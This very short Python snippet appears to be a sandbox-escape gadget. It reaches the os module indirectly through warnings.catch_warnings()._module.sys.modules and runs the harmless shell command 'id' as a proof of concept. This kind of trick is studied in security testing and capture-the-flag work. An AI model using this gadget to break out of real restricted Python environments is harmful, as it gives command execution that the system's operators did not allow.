# A context manager holds a module.
import warnings

warnings.catch_warnings()._module.sys.modules["os"].system("id")
